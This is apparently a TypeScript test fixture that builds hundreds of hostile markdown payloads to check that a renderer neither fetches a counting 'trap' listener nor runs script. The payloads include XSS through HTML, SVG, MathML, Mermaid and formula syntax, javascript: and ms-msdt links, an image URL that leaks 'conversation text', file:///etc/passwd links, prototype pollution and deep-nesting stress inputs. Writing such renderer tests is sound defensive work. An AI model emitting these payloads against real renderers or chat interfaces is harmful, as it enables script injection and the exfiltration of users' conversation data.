/**
 * Hostile markdown (QS2): each payload would make a careless renderer fetch `trap`, run a script that sets
 * `window.pwned`, or navigate. `trap` is an address of the listener that counts requests, without a slash at its end.
 */
export function markdownPayloads(trap: string): string[] {
  let count = 0;
  const url = (): string => `${trap}/${(count += 1)}`;
  const groups = [images(url), links(url), html(url), svgAndMath(url), embedded(url), entities(url), mermaid(url)];
  return [...groups.flat(), ...formulas(url), ...structure(url)];
}

type NextUrl = () => string;

const SCRIPT = 'window.pwned=1';

function images(url: NextUrl): string[] {
  const host = (): string => url().replace(/^http:/, '');
  return [
    `![plain](${url()})`,
    `![title](${url()} "a title")`,
    `![angle](<${url()}>)`,
    `![](${url()})`,
    `![query](${url()}?leak=conversation%20text)`,
    `![reference][img]\n\n[img]: ${url()}`,
    `![collapsed][]\n\n[collapsed]: ${url()} 'title'`,
    `![shortcut]\n\n[shortcut]: <${url()}>`,
    `[![linked](${url()})](${url()})`,
    `![a ![nested](${url()}) b](${url()})`,
    `![protocol-relative](${host()})`,
    `![backslashes](${host().replace('//', '\\\\\\\\')})`,
    `![upper](${url().replace('http', 'HTTP')})`,
    `![newline\nin alt](${url()})`,
    `![tab](\t${url()})`,
    `![entity](${url().replace('http:', 'http&#58;')})`,
    `![percent](${url().replace('http://', 'http:%2F%2F')})`,
    `![user](${url().replace('http://', 'http://example.com@')})`,
    `**![bold](${url()})** _![em](${url()})_ ~~![del](${url()})~~`,
    `# ![heading](${url()})`,
    `> ![quote](${url()})`,
    `- ![item](${url()})\n- [ ] ![task](${url()})`,
    `| ![cell](${url()}) | b |\n|---|---|\n| ![cell](${url()}) | c |`,
    `![svg data](data:image/svg+xml;base64,${Buffer.from(svgWith(url(), SCRIPT)).toString('base64')})`,
    `![svg text](data:image/svg+xml,${encodeURIComponent(svgWith(url(), SCRIPT))})`,
    `![html data](data:text/html,<script>${SCRIPT}</script>)`,
    `![script](javascript:${SCRIPT})`,
    `![file](file:///etc/passwd)`,
    `![blob](blob:app://app/00000000-0000-0000-0000-000000000000)`,
    `![app](app://app/index.html)`,
    `![ftp](${url().replace('http', 'ftp')})`,
    `![websocket](${url().replace('http', 'ws')})`,
    `![footnote](${url()})[^1]\n\n[^1]: ![note](${url()})`,
    `![srcset](${url()} 1x, ${url()} 2x)`,
    `![size](${url()} =100x100)`,
    `![attributes](${url()}){onerror=${SCRIPT}}`,
    `![quote break](${url()}" onerror="${SCRIPT})`,
    `!\\[escaped\\](${url()}) ![real](${url()})`,
  ];
}

function links(url: NextUrl): string[] {
  const schemes = [
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    '\u0001javascript:',
    'java\tscript:',
    'java\nscript:',
    'vbscript:',
    'livescript:',
    'jar:javascript:',
    'view-source:javascript:',
  ];
  return [
    ...schemes.map((scheme) => `[scheme ${schemes.indexOf(scheme)}](${scheme}${SCRIPT})`),
    ...schemes.map((scheme) => `[angle ${schemes.indexOf(scheme)}](<${scheme}${SCRIPT}>)`),
    `[entity](javascript&colon;${SCRIPT})`,
    `[entities](&#106;&#97;&#118;&#97;script:${SCRIPT})`,
    `[hex](&#x6a;avascript:${SCRIPT})`,
    `[data](data:text/html;base64,${Buffer.from(`<script>${SCRIPT}</script>`).toString('base64')})`,
    `[data text](data:text/html,<script>${SCRIPT}</script>)`,
    `[file](file:///etc/passwd)`,
    `[app](app://app/index.html)`,
    `[chrome](chrome://settings)`,
    `[about](about:blank)`,
    `[custom](espalier://run?command=ls)`,
    `[ms](ms-msdt:/id%20PCWDiagnostic)`,
    `[plain](${url()})`,
    `[reference][evil]\n\n[evil]: javascript:${SCRIPT}`,
    `<${url()}>`,
    `<javascript:${SCRIPT}>`,
    `bare ${url()} in text`,
    `www.example.com/${url()}`,
    `[ping](${url()} "x\\" ping=\\"${url()}")`,
    `[target](${url()} "x" target=_top)`,
    `[quote](${url()}"onmouseover="${SCRIPT})`,
    `[a](<${url()} onclick=${SCRIPT}>)`,
    `[![image](data:image/png;base64,iVBORw0KGgo=)](javascript:${SCRIPT})`,
    `[host](https://google.com@${url().slice(7)})`,
    `[idn](https://аpple.com/${count(url)})`,
    `[bidi\u202e](${url()}/\u202egpj.exe)`,
    `[zero\u200bwidth](${url()}/\u200b)`,
    `[fragment](#"onclick="${SCRIPT})`,
    `[relative](../../index.html)`,
    `[root](/index.html)`,
    `[empty]()`,
    `[mail](mailto:a@example.com?subject=x&body=${count(url)})`,
    `[long](${url()}?${'a'.repeat(3000)})`,
    `[nul](javascript\u0000:${SCRIPT})`,
  ];
}

/** The next number of the listener alone, for addresses that it does not serve. */
function count(url: NextUrl): string {
  return url().split('/').at(-1) ?? '';
}

function html(url: NextUrl): string[] {
  return [
    `<script>${SCRIPT}</script>`,
    `<script src="${url()}"></script>`,
    `<SCRIPT SRC=${url()}></SCRIPT>`,
    `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
    `<script type="module">import "${url()}"</script>`,
    `<img src=${url()} onerror=${SCRIPT}>`,
    `<img src=x onerror="${SCRIPT}">`,
    `<IMG """><SCRIPT>${SCRIPT}</SCRIPT>">`,
    `<img/src=x/onerror=${SCRIPT}>`,
    `<img srcset="${url()} 2x">`,
    `<picture><source srcset="${url()}"><img></picture>`,
    `<video src="${url()}" autoplay onloadstart="${SCRIPT}"></video>`,
    `<video poster="${url()}"></video>`,
    `<audio src="${url()}" autoplay></audio>`,
    `<track src="${url()}">`,
    `<iframe src="${url()}"></iframe>`,
    `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
    `<iframe src="javascript:parent.pwned=1"></iframe>`,
    `<frameset><frame src="${url()}"></frameset>`,
    `<object data="${url()}"></object>`,
    `<embed src="${url()}">`,
    `<applet code="x" codebase="${url()}"></applet>`,
    `<link rel="stylesheet" href="${url()}">`,
    `<link rel="prefetch" href="${url()}">`,
    `<link rel="dns-prefetch" href="${url()}">`,
    `<link rel="preconnect" href="${url()}">`,
    `<link rel="icon" href="${url()}">`,
    `<style>@import "${url()}";</style>`,
    `<style>body{background:url(${url()})}</style>`,
    `<style>@font-face{font-family:x;src:url(${url()})}*{font-family:x}</style>`,
    `<p style="background:url(${url()})">styled</p>`,
    `<div style="background-image:url('${url()}')">styled</div>`,
    `<body background="${url()}" onload="${SCRIPT}">`,
    `<table background="${url()}"><tr><td background="${url()}">x</td></tr></table>`,
    `<input type="image" src="${url()}" autofocus onfocus="${SCRIPT}">`,
    `<form action="${url()}"><button autofocus>send</button></form>`,
    `<form action="javascript:${SCRIPT}"><input type=submit></form>`,
    `<button formaction="${url()}">x</button>`,
    `<meta http-equiv="refresh" content="0;url=${url()}">`,
    `<meta http-equiv="refresh" content="0;javascript:${SCRIPT}">`,
    `<base href="${url()}/">`,
    `<a href="${url()}" ping="${url()}">ping</a>`,
    `<a href="javascript:${SCRIPT}">html link</a>`,
    `<details open ontoggle="${SCRIPT}">x</details>`,
    `<marquee onstart="${SCRIPT}">x</marquee>`,
    `<select autofocus onfocus=${SCRIPT}></select>`,
    `<textarea autofocus onfocus=${SCRIPT}></textarea>`,
    `<keygen autofocus onfocus=${SCRIPT}>`,
    `<template><img src=${url()}></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>"></noscript>`,
    `<xmp><img src=${url()} onerror=${SCRIPT}></xmp>`,
    `<plaintext><img src=${url()}>`,
    `<!--[if gte IE 4]><script>${SCRIPT}</script><![endif]-->`,
    `<!-- --!><img src=${url()} onerror=${SCRIPT}> -->`,
    `<![CDATA[<img src=${url()} onerror=${SCRIPT}>]]>`,
    `<?xml-stylesheet href="${url()}"?>`,
    `<!DOCTYPE x [<!ENTITY e SYSTEM "${url()}">]><x>&e;</x>`,
    `<b onmouseover=${SCRIPT}>inline <img src=${url()}> html</b> in a line`,
    `<br onload=${SCRIPT}><br/><br />`,
    `<x-element onclick=${SCRIPT} style="animation-name:x" onanimationstart=${SCRIPT}>`,
    `<portal src="${url()}"></portal>`,
    `<fencedframe src="${url()}"></fencedframe>`,
    `<dialog open onclose=${SCRIPT}><img src=${url()}></dialog>`,
    `<bgsound src="${url()}">`,
    `<isindex action="javascript:${SCRIPT}">`,
    `<div contenteditable autofocus onfocus=${SCRIPT}>edit</div>`,
    `<a id=pwned><a id=pwned name=x href="${url()}">clobber</a>`,
    `<form id=__proto__><input name=pwned></form>`,
  ];
}

function svgWith(address: string, script: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><image href="${address}"/><script>${script}</script></svg>`;
}

function svgAndMath(url: NextUrl): string[] {
  return [
    svgWith(url(), SCRIPT),
    `<svg/onload=${SCRIPT}>`,
    `<svg><script href="${url()}"/></svg>`,
    `<svg><use href="${url()}#x"/></svg>`,
    `<svg><use href="data:image/svg+xml,${encodeURIComponent(svgWith(url(), SCRIPT))}#x"/></svg>`,
    `<svg><image xlink:href="${url()}"/></svg>`,
    `<svg><feImage href="${url()}"/></svg>`,
    `<svg><a href="javascript:${SCRIPT}"><text>x</text></a></svg>`,
    `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s></svg>`,
    `<svg><set attributeName=href to=javascript:${SCRIPT}></svg>`,
    `<svg><foreignObject><img src=${url()} onerror=${SCRIPT}></foreignObject></svg>`,
    `<svg><style>@import url(${url()});</style></svg>`,
    `<svg><filter><feImage xlink:href="${url()}"/></filter></svg>`,
    `<svg fill="url(${url()}#x)"><rect/></svg>`,
    `<math><mi xlink:href="javascript:${SCRIPT}">x</mi></math>`,
    `<math href="javascript:${SCRIPT}">click</math>`,
    `<math><annotation-xml encoding="text/html"><img src=${url()} onerror=${SCRIPT}></annotation-xml></math>`,
    `<math><mtext><table><mglyph><style><img src=${url()} onerror=${SCRIPT}></style></mglyph></table></mtext></math>`,
    `<math><maction actiontype="statusline#${url()}" xlink:href="${url()}">x</maction></math>`,
  ];
}

function embedded(url: NextUrl): string[] {
  const fence = (language: string, code: string): string => `\`\`\`${language}\n${code}\n\`\`\``;
  return [
    fence('html', `<img src=${url()} onerror=${SCRIPT}>`),
    fence('svg', svgWith(url(), SCRIPT)),
    fence('js', `${SCRIPT}; fetch('${url()}')`),
    fence('css', `@import url(${url()});`),
    fence(`"><img src=${url()}>`, 'language name'),
    fence(`js {onload=${SCRIPT}}`, 'attributes'),
    fence('markdown', `![x](${url()})`),
    fence('diff', `+<script>${SCRIPT}</script>`),
    fence('__proto__', 'prototype'),
    fence('constructor', 'constructor'),
    `    <script>${SCRIPT}</script>`,
    `\`<img src=${url()}>\` and \`\`![x](${url()})\`\``,
    `~~~html\n<script src="${url()}"></script>`,
    fence('json', `{"__proto__":{"pwned":1},"url":"${url()}"}`),
  ];
}

function entities(url: NextUrl): string[] {
  return [
    `&lt;script&gt;${SCRIPT}&lt;/script&gt;`,
    `&#60;img src=${url()} onerror=${SCRIPT}&#62;`,
    `&#x3c;img src=${url()}&#x3e;`,
    `&ltscript&gt${SCRIPT}&lt/script&gt`,
    `&amp;lt;img src=${url()}&amp;gt;`,
    `\\<script>${SCRIPT}\\</script>`,
    `\\u003cscript\\u003e${SCRIPT}\\u003c/script\\u003e`,
    `&#0;&#xD800;&#x110000;&#1114112; <img src=${url()}>`,
    `\uFF1Cscript\uFF1E${SCRIPT}\uFF1C/script\uFF1E`,
  ];
}

function mermaid(url: NextUrl): string[] {
  const diagram = (...lines: string[]): string => `\`\`\`mermaid\n${lines.join('\n')}\n\`\`\``;
  return [
    diagram('graph TD', `A["<img src='${url()}' onerror='${SCRIPT}'>"] --> B`),
    diagram('graph TD', 'A --> B', `click A "${url()}" _blank`),
    diagram('graph TD', 'A --> B', `click A href "javascript:${SCRIPT}"`),
    diagram('graph TD', 'A --> B', 'click A call alert(1)'),
    diagram(
      `%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%`,
      'graph TD',
      `A["<script>${SCRIPT}</script>"] --> B`,
    ),
    diagram(
      `%%{init: {"themeCSS": "@import url(${url()}); * { background: url(${url()}) }"}}%%`,
      'graph TD',
      'A --> B',
    ),
    diagram(`%%{init: {"fontFamily": "x;}</style><img src=${url()} onerror=${SCRIPT}>"}}%%`, 'graph TD', 'A --> B'),
    diagram('---', 'config:', '  securityLevel: loose', '---', 'graph TD', `A["<iframe src='${url()}'></iframe>"]`),
    diagram('graph TD', `A@{ img: "${url()}", label: "picture" }`),
    diagram('graph TD', 'A:::evil', `classDef evil fill:url(${url()})`),
    diagram('graph TD', 'A', `style A fill:url(${url()}),background:url(${url()})`),
    diagram('sequenceDiagram', 'participant A', `link A: evil @ ${url()}`, `A->>A: <img src=${url()}>`),
    diagram('sequenceDiagram', 'participant A', `links A: {"x": "javascript:${SCRIPT}"}`),
    diagram('classDiagram', `class A["<img src=${url()} onerror=${SCRIPT}>"]`, `link A "${url()}" "tip"`),
    diagram('stateDiagram-v2', `[*] --> A`, `A: <script>${SCRIPT}</script>`),
    diagram('gantt', 'title <img src=x>', 'section S', `T :a1, 2024-01-01, 1d`, `click a1 href "${url()}"`),
    diagram('pie title <script>x</script>', `"<img src=${url()}>" : 1`),
    diagram('erDiagram', `A ||--o{ B : "<img src=${url()}>"`),
    diagram('mindmap', `  root((<img src=${url()} onerror=${SCRIPT}>))`),
    diagram('journey', `title ${url()}`, 'section S', '  <b>T</b>: 5: Me'),
    diagram('gitGraph', `commit id: "<img src=${url()}>"`),
    diagram('C4Context', `Person(a, "A", "x", $sprite="${url()}", $link="${url()}")`),
    diagram('graph TD', 'A["`**bold** ![x](' + url() + ')`"]'),
    diagram('graph TD', `A["$$\\\\href{javascript:${SCRIPT}}{x}$$"]`),
    diagram('graph TD', ...Array.from({ length: 450 }, (_, index) => `A${index} --> A${index + 1}`)),
    diagram(`this is no diagram <img src=${url()} onerror=${SCRIPT}>`),
  ];
}

function formulas(url: NextUrl): string[] {
  return [
    `$\\href{javascript:${SCRIPT}}{x}$`,
    `$\\url{${url()}}$`,
    `$\\includegraphics{${url()}}$`,
    `$$\\htmlClass{x}{\\htmlData{onclick=${SCRIPT}}{y}}$$`,
    `$\\htmlStyle{background:url(${url()})}{x}$`,
    `$$\\def\\a{\\a\\a}\\a$$`,
    `$$${'{'.repeat(500)}x${'}'.repeat(500)}$$`,
    `$<img src=${url()} onerror=${SCRIPT}>$`,
    `\\[\\rule{99999em}{99999em}\\]`,
    `\`\`\`math\n\\href{${url()}}{x}\n\`\`\``,
  ];
}

function structure(url: NextUrl): string[] {
  return [
    `${'> '.repeat(200)}![deep](${url()})`,
    `${'['.repeat(2000)}x${']'.repeat(2000)}(${url()})`,
    `${'*'.repeat(3000)}x`,
    `${'- '.repeat(150)}![item](${url()})`,
    `[a]: javascript:${SCRIPT}\n[b]: ${url()}\n\n[a] [b] ![b]`,
    `[a\n\nb](${url()})`,
    `| a |\n|---|\n| <img src=${url()}> [x](javascript:${SCRIPT}) |`,
    `# <script>${SCRIPT}</script>\n\nSetext <img src=${url()}>\n===`,
    `1. <details open ontoggle=${SCRIPT}>\n   ![x](${url()})`,
    `\u202e![rtl](${url()})\u202c`,
    `${'<b>'.repeat(1000)}x`,
    `Line one\\\n![after break](${url()})  \n<img src=${url()}>`,
  ];
}
